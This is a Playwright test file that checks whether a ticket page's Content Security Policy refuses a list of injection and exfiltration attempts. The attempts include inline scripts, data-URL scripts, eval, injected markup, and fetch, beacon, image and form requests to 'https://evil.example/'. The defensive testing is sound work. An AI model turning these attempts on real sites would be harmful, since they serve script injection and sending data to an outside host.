import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { TicketPage } from '../pages/ticketPage.ts';

/** Whoever has got a foot in the page tries this; it gives what came of it. */
const attempts: Record<string, (page: Page) => Promise<string>> = {
  'markup by innerHTML': (page) =>
    page.evaluate(() => {
      try {
        document.body.innerHTML = '<b>Hello</b>';
        return 'done';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : 'other';
      }
    }),
  'markup by insertAdjacentHTML': (page) =>
    page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x>');
        return 'done';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : 'other';
      }
    }),
  'a policy for trusted types': (page) =>
    page.evaluate(() => {
      const types: unknown = Reflect.get(globalThis, 'trustedTypes');
      if (typeof types !== 'object' || types === null) return 'no trusted types';
      const create: unknown = Reflect.get(types, 'createPolicy');
      try {
        if (typeof create === 'function') Reflect.apply(create, types, ['own', { createHTML: String }]);
        return 'done';
      } catch {
        return 'refused';
      }
    }),
  'an inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      try {
        script.append('globalThis.hasRun = true');
        document.body.append(script);
      } catch {
        return 'refused';
      }
      return Reflect.get(globalThis, 'hasRun') === true ? 'done' : 'refused';
    }),
  'a script of a data address': (page) =>
    page.evaluate(async () => {
      const script = document.createElement('script');
      try {
        script.src = 'data:text/javascript,globalThis.hasRun=true';
        document.body.append(script);
      } catch {
        return 'refused';
      }
      return 'done';
    }),
  'an inline handler': (page) =>
    page.evaluate(() => {
      const button = document.createElement('button');
      try {
        button.setAttribute('onclick', 'globalThis.hasRun = true');
      } catch {
        return 'refused';
      }
      document.body.append(button);
      button.click();
      return Reflect.get(globalThis, 'hasRun') === true ? 'done' : 'refused';
    }),
  'a style attribute': (page) =>
    page.evaluate(() => {
      const box = document.createElement('div');
      box.setAttribute('style', 'position: fixed');
      document.body.append(box);
      return getComputedStyle(box).position === 'fixed' ? 'done' : 'refused';
    }),
  'another base address': (page) =>
    page.evaluate(() => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      return document.baseURI.includes('evil') ? 'done' : 'refused';
    }),
  'a request to somebody else': (page) =>
    page.evaluate(() =>
      fetch('https://evil.example/', { mode: 'no-cors' }).then(
        () => 'done',
        () => 'refused',
      ),
    ),
  'a beacon to somebody else': (page) =>
    page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', () => resolve('refused'));
          navigator.sendBeacon('https://evil.example/', 'words');
          setTimeout(() => resolve('done'), 2000);
        }),
    ),
  'a picture from somebody else': (page) =>
    page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', () => resolve('refused'));
          const picture = new Image();
          picture.src = 'https://evil.example/pixel.png';
          setTimeout(() => resolve('done'), 2000);
        }),
    ),
  'a form to somebody else': (page) =>
    page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', () => resolve('refused'));
          const form = document.createElement('form');
          form.action = 'https://evil.example/';
          form.method = 'post';
          document.body.append(form);
          form.submit();
          setTimeout(() => resolve('done'), 2000);
        }),
    ),
  'a frame': (page) =>
    page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', () => resolve('refused'));
          const frame = document.createElement('iframe');
          frame.src = '/tickets';
          document.body.append(frame);
          setTimeout(() => resolve('done'), 2000);
        }),
    ),
  'a worker': (page) =>
    page.evaluate(() => {
      try {
        const worker = new Worker('data:text/javascript,1');
        worker.terminate();
        return 'done';
      } catch {
        return 'refused';
      }
    }),
  eval: (page) =>
    page.evaluate(
      () =>
        // In a turn of its own: what the test's own tool runs is excepted from the policy.
        new Promise<string>((resolve) => {
          setTimeout(() => {
            let outcome = 'refused';
            try {
              // oxlint-disable-next-line no-eval -- that it cannot be used is what is tested
              outcome = String(Reflect.apply(globalThis.eval, undefined, ['"do" + "ne"']));
            } catch {
              // As it should be.
            }
            resolve(outcome);
          });
        }),
    ),
};

for (const [name, attempt] of Object.entries(attempts)) {
  test(`design §5 ${name} is refused by the policy of the page`, async ({
    signedIn,
    seeder,
    customer,
    watch,
  }) => {
    watch.allow(/^console: |evil\.example| csp$/);
    const { id } = seeder.ticket(customer, {});
    const ticket = new TicketPage(signedIn);
    await ticket.open(id);
    await expect(ticket.reply).toBeVisible();
    expect(await attempt(signedIn)).toBe('refused');
    expect(await signedIn.evaluate(() => Reflect.get(globalThis, 'hasRun') as unknown)).toBeUndefined();
  });
}
